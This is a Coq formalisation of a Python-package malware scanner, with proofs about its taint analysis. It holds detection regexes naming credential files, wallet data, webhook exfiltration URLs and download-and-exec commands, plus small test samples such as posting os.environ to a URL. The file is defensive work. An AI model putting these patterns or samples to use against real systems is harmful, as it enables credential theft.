(* ===== verification/MalwarePatterns.v ===== *)
(** * Malware patterns of Python packages ([src/pkgward/analyze/malware_patterns.py])

    The eight analyzers and [analyze_malware_patterns].  [ast.parse] is an
    argument ([None]: it raised); the intel pack gives the lists of target files
    and the whitespace threshold; [sys.stdlib_module_names] is an argument. *)
From stdpp Require Import gmap.
From S2P Require Import Prelude PyStr Text Regex RegexSyntax Findings Tree Intel Score PyAst.
From Stdlib Require Import Ascii String.

Open Scope string_scope.
Open Scope list_scope.
Open Scope Z_scope.

Definition CATEGORY : string := "malware".
Definition QUOTE_SET : string := "['\" +:+ Q +:+ "]".
Definition mal (rule : string) (sev : severity) (conf : confidence) (rel : string) (ln : option Z) (ev : string) : Finding :=
  mkFinding rule CATEGORY sev conf rel ln ev.

Definition py_file (f : tree_file) : bool := endswith (tf_name f) ".py".
Definition basename (f : tree_file) : string := lower (tf_name f).

Section Patterns.
Variables (pack : IntelPack) (ast_parse : string -> option module_) (_STDLIB_NAMES : list string).
(** The parts of the extraction directory. *)
Variable root : list string.

Definition _target_files (key : string) (dflt : list string) : list string :=
  match dget key (malware_pattern_strings pack) with Some (x :: l) => x :: l | _ => dflt end.
Definition _whitespace_min_leading_spaces : Z := dget_or "whitespace_min_leading_spaces" 200 (thresholds pack).

(** ** 1. Exfiltration webhooks *)

Definition _DISCORD_WEBHOOK_RE : regex := compile bicase "https?://(?:ptb\.|canary\.)?discord(?:app)?\.com/api/webhooks/\d+/[\w-]+".
Definition _TELEGRAM_BOT_RE : regex := compile bicase "https?://api\.telegram\.org/bot[A-Za-z0-9_:.-]+/send".
Definition _SLACK_WEBHOOK_RE : regex := compile bicase "https?://hooks\.slack\.com/services/T[A-Z0-9]+/B[A-Z0-9]+/[A-Za-z0-9]+".

Definition webhook_findings (rx : regex) (rule : string) (sev : severity) (rel data : string) : list Finding :=
  map (fun m => mal rule sev CHigh rel None (str_take 200 (group0 data m))) (finditer rx data).
Definition scan_webhooks (f : tree_file) (data : string) : list Finding :=
  webhook_findings _DISCORD_WEBHOOK_RE "malware.discord_webhook" SCritical (real_path f) data ++
  webhook_findings _TELEGRAM_BOT_RE "malware.telegram_bot_exfil" SCritical (real_path f) data ++
  webhook_findings _SLACK_WEBHOOK_RE "malware.slack_webhook" SHigh (real_path f) data.
Definition analyze_exfil_webhooks (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file py_file changed scan_webhooks tree.

(** ** 2. [.pth] injection *)

Definition _PTH_EXEC_PRIMITIVES : regex := compile icase
  ("(?:exec|eval|compile|__import__|os\.system|subprocess|popen|" +:+ "b64decode|base64|marshal|socket|urlopen|urllib|requests|" +:+
   "\.decode\(|fromhex|getattr\(|pickle|ctypes)").
Definition _PTH_IMPORT_MODULE : regex := compile plain "^\s*(?:import|from)\s+([A-Za-z_][\w.]*)".
Definition _COVERAGE_PTH : regex := compile dotall "COVERAGE_PROCESS_(?:START|CONFIG).{0,200}coverage\.process_startup".

(** The directory whose entry [__init__.py] is: the names of packages on a path. *)
Fixpoint package_names (parts : list string) : list string :=
  match parts with
  | d :: rest => match rest with
                 | x :: _ => if String.eqb x "__init__.py" then d :: package_names rest else package_names rest
                 | [] => []
                 end
  | [] => []
  end.
Definition _shipped_top_modules (tree : list tree_file) : list string :=
  flat_map (fun f => package_names (tf_parts f) ++
    (if String.eqb (name_suffix (tf_name f)) ".py" then [name_stem (tf_name f)] else [])) tree.

Definition pth_line (tree : list tree_file) (rel : string) (iline : Z * string) : list Finding :=
  let stripped := strip iline.2 in
  if negb (startswith stripped "import " || startswith stripped ("import" +:+ String (chr 9) "")) then []
  else if has_char ";" stripped && found _PTH_EXEC_PRIMITIVES stripped then
    if found _COVERAGE_PTH stripped then []
    else [mal "malware.pth_exec_injection" SCritical CHigh rel (Some iline.1) (".pth runs code at Python startup: " +:+ str_take 200 stripped)]
  else
    let top := match match_ _PTH_IMPORT_MODULE stripped with Some m => before_first "." (group_or stripped 1 m) | None => "" end in
    if truthy top && negb (str_in top (_shipped_top_modules tree)) && negb (str_in top _STDLIB_NAMES) then
      [mal "malware.pth_import_injection" SHigh CMedium rel (Some iline.1)
        (".pth sideloads a non-shipped module at Python startup: " +:+ str_take 200 stripped)]
    else [].
Definition analyze_pth_injection (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file (fun f => endswith (tf_name f) ".pth") changed
    (fun f data => flat_map (pth_line tree (real_path f)) (numbered (splitlines (read_text data)))) tree.

(** ** 3. Hidden bytecode *)

Definition _IMPORTLIB_RE : regex := compile bplain "importlib|import_module|SourcelessFileLoader|__import__".

Definition full_path (f : tree_file) : string := "/" +:+ join "/" (root ++ tf_parts f).
Definition analyze_pyc_hiding (changed : option (list string)) (tree : list tree_file) : list Finding :=
  let standalone := bfilter (fun f => negb (contains "__pycache__" (full_path f))) (with_ext ".pyc" tree) in
  let standalone := bfilter (fun f => negb (unchanged_file changed f)) standalone in
  let loader := existsb (fun f => match tf_data f with Some data => found _IMPORTLIB_RE data | None => false end) (with_ext ".py" tree) in
  map (fun f => mal "malware.pyc_bytecode_hidden" (if loader then SCritical else SHigh) (if loader then CHigh else CMedium) (real_path f) None
    ("standalone .pyc outside __pycache__ (importlib loader: " +:+ (if loader then "True" else "False") +:+ ")")) standalone.

(** ** 4. Credential files *)

Definition _CRED_PATHS : regex := compile bicase
  ("(?:" +:+ "\.ssh/|/\.ssh|ssh/id_rsa|ssh/id_ed25519|ssh/authorized_keys|ssh/known_hosts" +:+
   "|\.aws/credentials|\.aws/config" +:+ "|\.gnupg/|/\.gnupg" +:+ "|\.gitconfig|/\.gitconfig" +:+
   "|\.npmrc|/\.npmrc|\.pypirc|/\.pypirc" +:+ "|\.docker/config\.json" +:+ "|\.kube/config|/\.kube/config|kubeconfig" +:+
   "|/\.env(?:\b|$)" +:+ "|/etc/passwd|/etc/shadow" +:+ "|Chrome/User Data|firefox/profiles|\.mozilla/" +:+
   "|Exodus/|exodus/|Atomic Wallet|atomic/|electrum/" +:+ "|\.wallet|wallet\.dat|keystore" +:+ ")").
Definition _CRED_TARGET_FILES_DEFAULT : list string := ["setup.py"; "setup.cfg"; "install.py"; "post_install.py"].

Definition in_targets (key : string) (dflt : list string) (f : tree_file) : bool := py_file f && str_in (basename f) (_target_files key dflt).
Definition analyze_credential_access (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file (in_targets "credential_targets" _CRED_TARGET_FILES_DEFAULT) changed
    (fun f data => map (fun v => mal "malware.credential_file_access" SCritical CHigh (real_path f) None
        ("references sensitive path in " +:+ basename f +:+ ": " +:+ v)) (dedup (map (group0 data) (finditer _CRED_PATHS data)))) tree.

(** ** 5. Deobfuscation chains *)

Definition _DEOBFUS_RE : regex := compile bplain "(?:marshal\.loads|zlib\.decompress|bz2\.decompress|lzma\.decompress|codecs\.decode)".
Definition _EXEC_NEAR_RE : regex := compile bplain "\bexec\s*\(|\beval\s*\(|\bcompile\s*\(".
Definition _DEOBFUS_TARGET_FILES_DEFAULT : list string := ["setup.py"; "install.py"; "post_install.py"].

Definition analyze_deobfuscation_chains (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file (in_targets "deobfuscation_targets" _DEOBFUS_TARGET_FILES_DEFAULT) changed
    (fun f data =>
      match finditer _DEOBFUS_RE data with
      | [] => []
      | ms =>
          if found _EXEC_NEAR_RE data then
            [mal "malware.deobfuscation_exec_chain" SCritical CHigh (real_path f) None
              ("deobfuscation + exec chain in " +:+ basename f +:+ ": " +:+ join ", " (sorted_set (map (group0 data) ms)) +:+ " -> exec/eval")]
          else []
      end) tree.

(** ** 6. Environment exfiltration *)

Definition _ENVIRON_BULK_RE : regex := compile bplain "os\.environ(?!\[|\.get)".
Definition _ENVIRON_SENSITIVE_RE : regex := compile bicase
  ("os\.environ\s*(?:\.get\(\s*|\[\s*)" +:+ QUOTE_SET +:+ "(?:AWS_|GITHUB_TOKEN|DATABASE_|DB_|SECRET|TOKEN|API_KEY|PRIVATE)").
Definition _HTTP_SEND_RE : regex := compile bplain
  ("(?:requests\.post|httpx\.post|urllib\.request\.urlopen|urlopen|http\.client|" +:+ "aiohttp\.ClientSession|\.post\(|curl\b|wget\b)").
Definition _SEND_CALL_ATTRS : list string := ["post"; "put"; "patch"; "request"; "urlopen"; "send"; "sendall"].
Definition _SEND_CALL_NAMES : list string := ["urlopen"; "post"].

(** A node that reads the environment or a tainted variable. *)
Definition reads_env (tainted : list string) (n : node) : bool :=
  match n with
  | Attribute _ attr => str_in attr ["environ"; "getenv"]
  | Name id => String.eqb id "environ" || str_in id tainted
  | _ => false
  end.
Definition _expr_refs_env (n : node) (tainted : list string) : bool := existsb (reads_env tainted) (walk n).

Fixpoint _assigned_names (target : node) : list string :=
  match target with
  | Name id => [id]
  | Seq elts => flat_map _assigned_names elts
  | _ => []
  end.

Definition _is_send_call (func : node) : bool :=
  match func with
  | Attribute _ attr => str_in attr _SEND_CALL_ATTRS
  | Name id => str_in id _SEND_CALL_NAMES
  | _ => false
  end.

(** The targets and the value of an assignment that has a value. *)
Definition assignment (n : node) : option (list node * node) :=
  match n with
  | Assign ts v => Some (ts, v)
  | AnnAssign t _ (Some v) => Some ([t], v)
  | AugAssign t v => Some ([t], v)
  | _ => None
  end.

(** One node of a round; [true]: a name was added. *)
Definition taint_node (st : list string * bool) (n : node) : list string * bool :=
  match assignment n with
  | Some (ts, v) =>
      if _expr_refs_env v st.1 then
        fold_left (fun st nm => if str_in nm st.1 then st else (st.1 ++ [nm], true)) (flat_map _assigned_names ts) st
      else st
  | None => st
  end.
Definition taint_round (t : module_) (tainted : list string) : list string * bool :=
  fold_left taint_node (walk_module t) (tainted, false).

(** At most [n] rounds, ended by one that adds nothing; also whether it was. *)
Fixpoint taint_rounds (n : nat) (t : module_) (tainted : list string) : list string * bool :=
  match n with
  | O => (tainted, false)
  | S n' =>
      let '(tainted', changed) := taint_round t tainted in
      if changed then taint_rounds n' t tainted' else (tainted', true)
  end.
Definition TAINT_ROUNDS : nat := 5.

Definition sends_env (tainted : list string) (n : node) : bool :=
  match n with
  | Call func args kws _ =>
      _is_send_call func &&
      existsb (fun a => _expr_refs_env a tainted) (args ++ flat_map (fun kw => match kw with Keyword _ v => [v] | _ => [] end) kws)
  | _ => false
  end.

Definition module_flows (t : module_) : bool := existsb (sends_env (taint_rounds TAINT_ROUNDS t []).1) (walk_module t).
Definition _env_flows_to_send (data : string) : bool :=
  match ast_parse data with Some t => module_flows t | None => false end.

Definition _INSTALL_FILES_DEFAULT : list string := ["setup.py"; "install.py"; "post_install.py"; "conftest.py"].
Definition _TEST_DIR_NAMES : list string := ["tests"; "test"; "testing"; "_tests"; "_test"].

Definition test_fixture (f : tree_file) : bool :=
  String.eqb (basename f) "conftest.py" && existsb (fun p => str_in (lower p) _TEST_DIR_NAMES) (removelast (tf_parts f)).

Definition scan_env (f : tree_file) (data : string) : list Finding :=
  let has_bulk_env := found _ENVIRON_BULK_RE data in
  let has_sensitive_env := found _ENVIRON_SENSITIVE_RE data in
  let has_http := found _HTTP_SEND_RE data in
  let has_flow := if has_http && (has_bulk_env || has_sensitive_env) then _env_flows_to_send data else false in
  if has_flow then [mal "malware.env_exfil_tainted" SCritical CHigh (real_path f) None
    "os.environ value flows into an HTTP send in install-time file (credential exfiltration)"]
  else if has_bulk_env && has_http then [mal "malware.env_bulk_exfil" SMedium CLow (real_path f) None
    "os.environ read + HTTP send co-occur in install-time file (no provable flow)"]
  else if has_sensitive_env && has_http then [mal "malware.env_sensitive_exfil" SHigh CMedium (real_path f) None
    "sensitive env var access + HTTP send in install-time file"]
  else [].
Definition analyze_env_exfil (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file (fun f => in_targets "install_time_all" _INSTALL_FILES_DEFAULT f && negb (test_fixture f)) changed scan_env tree.

(** ** 7. Payloads behind whitespace *)

Definition whitespace_line (rel : string) (iline : Z * string) : list Finding :=
  let stripped := lstrip_where is_space iline.2 in
  let leading := Z.of_nat (len iline.2) - Z.of_nat (len stripped) in
  if truthy stripped && (_whitespace_min_leading_spaces <=? leading) then
    [mal "malware.whitespace_hidden_payload" SCritical CHigh rel (Some iline.1)
      ("line " +:+ show iline.1 +:+ " has " +:+ show leading +:+ " leading spaces hiding: " +:+ str_take 100 stripped)]
  else [].
Definition analyze_whitespace_payloads (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file py_file changed (fun f data => flat_map (whitespace_line (real_path f)) (numbered (splitlines (read_text data)))) tree.

(** ** 8. Download commands *)

Definition _EXEC_CALL_RE : regex := compile bicase
  ("(?:subprocess\.(?:run|Popen|call|check_call|check_output|getoutput|getstatusoutput)|" +:+ "os\.(?:system|popen|execv?p?e?)|" +:+
   "commands\.(?:getoutput|getstatusoutput)|" +:+ "pty\.spawn|" +:+ "sh\.[A-Za-z_][A-Za-z0-9_]*)\s*\(").
Definition _DOWNLOAD_CMD_RE : regex := compile bicase
  ("(?:powershell|pwsh|cmd\.exe|curl\s|wget\s|Invoke-WebRequest|" +:+ "Invoke-Expression|IEX\s|Start-Process|certutil\s.*-urlcache|" +:+
   "bitsadmin\s.*\/transfer)").
Definition _EXEC_WINDOW : nat := 400.
Definition _DOWNLOAD_TARGET_FILES_DEFAULT : list string := ["setup.py"; "install.py"; "post_install.py"].

(** The first download command within reach of an execution call. *)
Definition near_exec (starts : list nat) (m : mtch) : bool :=
  existsb (fun s => (s <=? m_start m)%nat && (m_start m <? s + _EXEC_WINDOW)%nat) starts.
Definition scan_downloads (f : tree_file) (data : string) : list Finding :=
  match List.find (near_exec (map m_start (finditer _EXEC_CALL_RE data))) (finditer _DOWNLOAD_CMD_RE data) with
  | Some m => [mal "malware.download_command" SCritical CHigh (real_path f) None
      ("download/exec command in " +:+ basename f +:+ ": " +:+ group0 data m)]
  | None => []
  end.
Definition analyze_download_commands (changed : option (list string)) (tree : list tree_file) : list Finding :=
  each_file (in_targets "download_targets" _DOWNLOAD_TARGET_FILES_DEFAULT) changed scan_downloads tree.

(** ** All of them *)

Definition analyze_malware_patterns (changed : option (list string)) (tree : list tree_file) : list Finding :=
  analyze_exfil_webhooks changed tree ++ analyze_pth_injection changed tree ++ analyze_pyc_hiding changed tree ++
  analyze_credential_access changed tree ++ analyze_deobfuscation_chains changed tree ++ analyze_env_exfil changed tree ++
  analyze_whitespace_payloads changed tree ++ analyze_download_commands changed tree.

End Patterns.

Example malware_patterns_compile : forallb compiled
  [_DISCORD_WEBHOOK_RE; _TELEGRAM_BOT_RE; _SLACK_WEBHOOK_RE; _PTH_EXEC_PRIMITIVES; _PTH_IMPORT_MODULE; _COVERAGE_PTH; _IMPORTLIB_RE;
   _CRED_PATHS; _DEOBFUS_RE; _EXEC_NEAR_RE; _ENVIRON_BULK_RE; _ENVIRON_SENSITIVE_RE; _HTTP_SEND_RE; _EXEC_CALL_RE; _DOWNLOAD_CMD_RE] = true.
Proof. by vm_compute. Qed.

(** ** The taint analysis *)

Section Taint.
Variable t : module_.

Definition in_module (n : node) : Prop := exists s, s ∈ body t /\ below n s.

(** What it means that the environment reaches a variable: some assignment of the
    module to it has a value that reads the environment, directly or
    through a variable the environment reaches. *)
Inductive reached : string -> Prop :=
  | reached_direct n ts v y nm : in_module n -> assignment n = Some (ts, v) -> below y v -> reads_env [] y = true ->
      nm ∈ flat_map _assigned_names ts -> reached nm
  | reached_via n ts v id nm : in_module n -> assignment n = Some (ts, v) -> below (Name id) v -> reached id ->
      nm ∈ flat_map _assigned_names ts -> reached nm.

(** An expression that reads the environment or a reached variable. *)
Definition carries (e : node) : Prop := exists y, below y e /\ (reads_env [] y = true \/ exists id, y = Name id /\ reached id).

Definition send_args (n : node) : list node :=
  match n with
  | Call _ args kws _ => args ++ flat_map (fun kw => match kw with Keyword _ v => [v] | _ => [] end) kws
  | _ => []
  end.
(** Some call that sends takes an argument the environment reaches. *)
Definition flows : Prop := exists func args kws ln a,
  in_module (Call func args kws ln) /\ _is_send_call func = true /\ a ∈ send_args (Call func args kws ln) /\ carries a.

Lemma reads_env_cases tainted y : reads_env tainted y = true <-> reads_env [] y = true \/ exists id, y = Name id /\ id ∈ tainted.
Proof.
  destruct y as [id| | | | | | | | | | | |]; cbn [reads_env]; try (split; [by left|by intros [?|(? & ? & ?)]]).
  rewrite !orb_true_iff, !str_in_true. split.
  - intros [H|H]; [by do 2 left|right; by exists id].
  - intros [[H|H]|(x & [= <-] & H)]; [by left|by apply elem_of_nil in H|by right].
Qed.

Lemma refs_true e tainted : _expr_refs_env e tainted = true <-> exists y, below y e /\ (reads_env [] y = true \/ exists id, y = Name id /\ id ∈ tainted).
Proof.
  unfold _expr_refs_env. rewrite existsb_true. setoid_rewrite walk_in. setoid_rewrite (reads_env_cases tainted). split; exact id.
Qed.

Definition justified (tainted : list string) : Prop := forall nm, nm ∈ tainted -> reached nm.

Lemma refs_carries e tainted : justified tainted -> _expr_refs_env e tainted = true -> carries e.
Proof. intros Hj (y & Hy & H)%refs_true. exists y. split; [done|]. destruct H as [?|(id & -> & H)]; [by left|right; eauto]. Qed.

(** Adding names: which are in afterwards, and whether any is new. *)
Lemma add_names l st : let st' := fold_left (fun (st : list string * bool) nm => if str_in nm st.1 then st else (st.1 ++ [nm], true)) l st in
  (forall nm, nm ∈ st'.1 <-> nm ∈ st.1 \/ nm ∈ l) /\ (st'.2 = false -> st.2 = false /\ st'.1 = st.1).
Proof.
  revert st. induction l as [|x l IH]; intros st; cbn [fold_left]; [split; [set_solver|done]|].
  destruct (str_in x st.1) eqn:E.
  - destruct (IH st) as [H1 H2]. split; [|done]. intros nm. rewrite H1. apply str_in_true in E. set_solver.
  - destruct (IH (st.1 ++ [x], true)) as [H1 H2]. split; [intros nm; rewrite H1; set_solver|]. by intros [? _]%H2.
Qed.

Lemma taint_node_spec st n : justified st.1 -> in_module n ->
  justified (taint_node st n).1 /\ (forall nm, nm ∈ st.1 -> nm ∈ (taint_node st n).1) /\
  ((taint_node st n).2 = false -> st.2 = false /\ (taint_node st n).1 = st.1 /\
     forall ts v, assignment n = Some (ts, v) -> _expr_refs_env v st.1 = true -> forall nm, nm ∈ flat_map _assigned_names ts -> nm ∈ st.1).
Proof.
  intros Hj Hn. unfold taint_node. destruct (assignment n) as [[ts v]|] eqn:Ea; [|by split_and!].
  destruct (_expr_refs_env v st.1) eqn:Er; [|split_and!; [done|done|]; intros H; split_and!; [done|done|]; intros ? ? [= <- <-]; congruence].
  destruct (add_names (flat_map _assigned_names ts) st) as [H1 H2]. split_and!.
  - intros nm [H|H]%H1; [by apply Hj|]. apply (refs_carries _ _ Hj) in Er as (y & Hy & [Hr|(id & -> & Hr)]);
      [by eapply reached_direct|by eapply reached_via].
  - intros nm H. apply H1. by left.
  - intros H. destruct (H2 H) as [H3 H4]. split_and!; [done|done|]. intros ? ? [= <- <-] _ nm Hnm. rewrite <- H4. apply H1. by right.
Qed.

Lemma taint_round_spec tainted : justified tainted -> let r := taint_round t tainted in
  justified r.1 /\ (r.2 = false -> r.1 = tainted /\ forall n ts v, in_module n -> assignment n = Some (ts, v) ->
     _expr_refs_env v tainted = true -> forall nm, nm ∈ flat_map _assigned_names ts -> nm ∈ tainted).
Proof.
  intros Hj. cbn zeta. unfold taint_round.
  assert (forall l, (forall n, n ∈ l -> in_module n) -> let r := fold_left taint_node l (tainted, false) in
    justified r.1 /\ (r.2 = false -> r.1 = tainted /\ forall n ts v, n ∈ l -> assignment n = Some (ts, v) ->
      _expr_refs_env v tainted = true -> forall nm, nm ∈ flat_map _assigned_names ts -> nm ∈ tainted)) as H.
  { intros l. induction l as [|n l IH] using rev_ind; intros Hl; cbn zeta; [by split; [|split; [|intros ? ? ? ?%elem_of_nil]]|].
    rewrite fold_left_app. cbn [fold_left]. destruct IH as [IH1 IH2]; [set_solver|].
    destruct (taint_node_spec (fold_left taint_node l (tainted, false)) n IH1) as (H1 & _ & H3); [set_solver|]. split; [done|].
    intros H. destruct (H3 H) as (H4 & H5 & H6). destruct (IH2 H4) as [H7 H8]. rewrite H5, H7. split; [done|].
    intros n' ts v [Hn|Hn%list_elem_of_singleton]%elem_of_app; [by apply H8|]. subst n'. rewrite H7 in H6. by apply H6. }
  destruct (H (walk_module t)) as [H1 H2]; [by intros n Hn%walk_module_in|]. split; [done|].
  intros Hs. destruct (H2 Hs) as [H3 H4]. split; [done|]. intros n ts v Hn. apply H4. by apply walk_module_in.
Qed.

Lemma taint_rounds_spec k tainted : justified tainted -> let r := taint_rounds k t tainted in
  justified r.1 /\ (r.2 = true -> forall nm, reached nm -> nm ∈ r.1).
Proof.
  revert tainted. induction k as [|k IH]; intros tainted Hj; cbn [taint_rounds]; [by split|].
  destruct (taint_round_spec tainted Hj) as [H1 H2]. destruct (taint_round t tainted) as [tainted' changed]. cbn [fst snd] in *.
  destruct changed; [by apply IH|]. destruct (H2 eq_refl) as [-> H3]. split; [done|]. intros _ nm Hr. cbn [fst].
  induction Hr as [n ts v y nm Hn Ha Hy Hs Hm|n ts v id nm Hn Ha Hy _ IHr Hm]; apply (H3 n ts v Hn Ha); try done; apply refs_true.
  - exists y. split; [done|by left].
  - exists (Name id). split; [done|right; eauto].
Qed.

Lemma module_flows_spec : let r := taint_rounds TAINT_ROUNDS t [] in
  (module_flows t = true -> flows) /\ (r.2 = true -> flows -> module_flows t = true).
Proof.
  cbn zeta. destruct (taint_rounds_spec TAINT_ROUNDS []) as [Hj Hc]; [by intros ? ?%elem_of_nil|].
  unfold module_flows. rewrite existsb_true. split.
  - intros (n & Hn%walk_module_in & Hs). destruct n as [| |func args kws ln| | | | | | | | | |]; try done. cbn [sends_env] in Hs.
    apply andb_true_iff in Hs as [H1 (a & Ha & H2)%existsb_true]. exists func, args, kws, ln, a. split_and!; [done|done|done|by eapply refs_carries].
  - intros Hs (func & args & kws & ln & a & Hn & H1 & Ha & y & Hy & H2). exists (Call func args kws ln). split; [by apply walk_module_in|].
    cbn [sends_env]. apply andb_true_iff. split; [done|]. apply existsb_true. exists a. split; [done|]. apply refs_true. exists y. split; [done|].
    destruct H2 as [?|(id & -> & Hr)]; [by left|right]. exists id. split; [done|]. by apply Hc.
Qed.

End Taint.

(** ** What the analyzers report *)

Section Reported.
Context (pack : IntelPack) (ast_parse : string -> option module_) (_STDLIB_NAMES root : list string).

Lemma webhook_reported rx rule sev rel data : (0 < min_width (r_body rx))%nat -> found rx data = true ->
  exists g, g ∈ webhook_findings rx rule sev rel data /\ rule_id g = rule /\ f_severity g = sev.
Proof.
  intros Hw Hf. destruct (found_finditer rx data Hw Hf) as [m Hm].
  exists (mal rule sev CHigh rel None (str_take 200 (group0 data m))). split; [apply list_elem_of_fmap; by exists m|done].
Qed.

(** Rule, severity and confidence of every finding of this file. *)
Definition MALWARE_SIGNATURES : list (string * severity * confidence) :=
  [("malware.discord_webhook", SCritical, CHigh); ("malware.telegram_bot_exfil", SCritical, CHigh); ("malware.slack_webhook", SHigh, CHigh);
   ("malware.pth_exec_injection", SCritical, CHigh); ("malware.pth_import_injection", SHigh, CMedium);
   ("malware.pyc_bytecode_hidden", SCritical, CHigh); ("malware.pyc_bytecode_hidden", SHigh, CMedium);
   ("malware.credential_file_access", SCritical, CHigh); ("malware.deobfuscation_exec_chain", SCritical, CHigh);
   ("malware.env_exfil_tainted", SCritical, CHigh); ("malware.env_bulk_exfil", SMedium, CLow); ("malware.env_sensitive_exfil", SHigh, CMedium);
   ("malware.whitespace_hidden_payload", SCritical, CHigh); ("malware.download_command", SCritical, CHigh)].
Definition signed (g : Finding) : Prop := (rule_id g, f_severity g, f_confidence g) ∈ MALWARE_SIGNATURES /\ category g = CATEGORY.

Lemma signed_mal rule sev conf rel ln ev : (rule, sev, conf) ∈ MALWARE_SIGNATURES -> signed (mal rule sev conf rel ln ev).
Proof. by split. Qed.
Ltac sign := apply signed_mal; unfold MALWARE_SIGNATURES; set_solver.

Lemma each_signed sel changed scan tree : (forall f data g, g ∈ scan f data -> signed g) -> forall g, g ∈ each_file sel changed scan tree -> signed g.
Proof. intros H g (f & data & _ & _ & _ & _ & Hg)%each_file_in. eauto. Qed.

Lemma flat_signed {A} (h : A -> list Finding) l : (forall x g, g ∈ h x -> signed g) -> forall g, g ∈ flat_map h l -> signed g.
Proof. intros H g (x & _ & Hg)%elem_flat_map. eauto. Qed.

Ltac cases_of H := repeat case_match; try (by apply elem_of_nil in H); apply list_elem_of_singleton in H as ->; sign.

Lemma webhooks_signed changed tree g : g ∈ analyze_exfil_webhooks changed tree -> signed g.
Proof.
  apply each_signed. intros f data x. unfold scan_webhooks, webhook_findings. rewrite !elem_of_app, !list_elem_of_fmap.
  intros [(m & -> & _)|[(m & -> & _)|(m & -> & _)]]; sign.
Qed.
Lemma pth_signed changed tree g : g ∈ analyze_pth_injection _STDLIB_NAMES changed tree -> signed g.
Proof. apply each_signed. intros f data. apply flat_signed. intros x y H. unfold pth_line in H. cases_of H. Qed.
Lemma pyc_signed changed tree g : g ∈ analyze_pyc_hiding root changed tree -> signed g.
Proof. unfold analyze_pyc_hiding. intros (f & -> & _)%list_elem_of_fmap. case_match; sign. Qed.
Lemma cred_signed changed tree g : g ∈ analyze_credential_access pack changed tree -> signed g.
Proof. apply each_signed. intros f data x (v & -> & _)%list_elem_of_fmap. sign. Qed.
Lemma deobfus_signed changed tree g : g ∈ analyze_deobfuscation_chains pack changed tree -> signed g.
Proof. apply each_signed. intros f data x H. cases_of H. Qed.
Lemma env_signed changed tree g : g ∈ analyze_env_exfil pack ast_parse changed tree -> signed g.
Proof. apply each_signed. intros f data x H. unfold scan_env in H. cases_of H. Qed.
Lemma whitespace_signed changed tree g : g ∈ analyze_whitespace_payloads pack changed tree -> signed g.
Proof. apply each_signed. intros f data. apply flat_signed. intros x y H. unfold whitespace_line in H. cases_of H. Qed.
Lemma download_signed changed tree g : g ∈ analyze_download_commands pack changed tree -> signed g.
Proof. apply each_signed. intros f data x H. unfold scan_downloads in H. cases_of H. Qed.

Lemma malware_signature changed tree g : g ∈ analyze_malware_patterns pack ast_parse _STDLIB_NAMES root changed tree -> signed g.
Proof.
  unfold analyze_malware_patterns. rewrite !elem_of_app.
  intros [H|[H|[H|[H|[H|[H|[H|H]]]]]]]; revert H; [apply webhooks_signed|apply pth_signed|apply pyc_signed|apply cred_signed|
    apply deobfus_signed|apply env_signed|apply whitespace_signed|apply download_signed].
Qed.

Lemma malware_not_shadow g : signed g -> is_shadow_finding g = false.
Proof.
  intros [H _]. unfold is_shadow_finding. assert (rule_id g ∈ map (fun x => x.1.1) MALWARE_SIGNATURES) as Hr by (apply list_elem_of_fmap; exists (rule_id g, f_severity g, f_confidence g); split; [reflexivity|exact H]).
  revert Hr. generalize (rule_id g). apply Forall_forall. unfold MALWARE_SIGNATURES. cbn [map fst]. repeat constructor.
Qed.

(** A critical finding of this file convicts the package. *)
Lemma malware_convicts changed tree fs r g : (forall x, x ∈ analyze_malware_patterns pack ast_parse _STDLIB_NAMES root changed tree -> x ∈ fs) ->
  g ∈ analyze_malware_patterns pack ast_parse _STDLIB_NAMES root changed tree -> f_severity g = SCritical ->
  sr_verdict (score_and_verdict pack fs r) = VMalicious.
Proof. intros Hfs Hg Hs. apply (critical_convicts pack fs r g); [by apply Hfs|done|]. by eapply malware_not_shadow, malware_signature. Qed.

End Reported.

(** ** Properties *)

(** A webhook convicts.  If any changed, readable Python file of the package holds a
    Discord webhook URL or a Telegram bot call anywhere, the package is malicious,
    whatever else was found and wherever it ranks. *)
Theorem webhook_convicts pack ast_parse stdlib root changed tree f data fs r
  (Hf : f ∈ tree) (Hpy : py_file f = true) (Hch : unchanged_file changed f = false) (Hd : tf_data f = Some data)
  (Hw : found _DISCORD_WEBHOOK_RE data || found _TELEGRAM_BOT_RE data = true)
  (Hfs : forall x, x ∈ analyze_malware_patterns pack ast_parse stdlib root changed tree -> x ∈ fs) :
  sr_verdict (score_and_verdict pack fs r) = VMalicious.
Proof.
  assert (exists g, g ∈ scan_webhooks f data /\ f_severity g = SCritical) as (g & Hg & Hs).
  { apply orb_true_iff in Hw as [H|H]; [apply (webhook_reported _ "malware.discord_webhook" SCritical (real_path f)) in H; [|vm_compute; lia]|
      apply (webhook_reported _ "malware.telegram_bot_exfil" SCritical (real_path f)) in H; [|vm_compute; lia]];
      destruct H as (g & Hg & _ & Hs); exists g; (split; [unfold scan_webhooks; rewrite !elem_of_app; auto|done]). }
  eapply malware_convicts; [exact Hfs| |exact Hs]. unfold analyze_malware_patterns, analyze_exfil_webhooks. apply elem_of_app. left.
  apply each_file_in. by exists f, data.
Qed.


(** ** Concrete packages *)

Definition one_file (parts : list string) (data : string) : tree_file := mkTreeFile parts (Some (Z.of_nat (len data))) (Some data).
Definition no_parse : string -> option module_ := fun _ => None.
Definition ex_mal (tree : list tree_file) : list (string * severity) :=
  map (fun g => (rule_id g, f_severity g)) (analyze_malware_patterns ex_pack no_parse ["os"; "sys"] ["tmp"; "x"] None tree).

Definition ex_webhook : tree_file := one_file ["pkg"; "setup.py"] "post('https://discord.com/api/webhooks/1/a-B')".
Lemma webhook_convicts_witness :
  sr_verdict (score_and_verdict ex_pack (analyze_malware_patterns ex_pack no_parse ["os"] ["tmp"] None [ex_webhook]) None) = VMalicious.
Proof.
  eapply (webhook_convicts ex_pack no_parse ["os"] ["tmp"] None [ex_webhook] ex_webhook); [set_solver|by vm_compute|done|reflexivity|by vm_compute|done].
Defined.

(** [x = os.environ; requests.post(url, json=x)]. *)
Definition ex_flow : module_ := mkModule
  [Assign [Name "x"] (Attribute (Name "os") "environ");
   Other [Call (Attribute (Name "requests") "post") [Name "url"] [Keyword (Some "json") (Name "x")] 2]].

(** [from os import environ; requests.post(url, json=environ)]: the analysis of the tree finds the flow, but
    the text gate asks for [os.environ]. *)
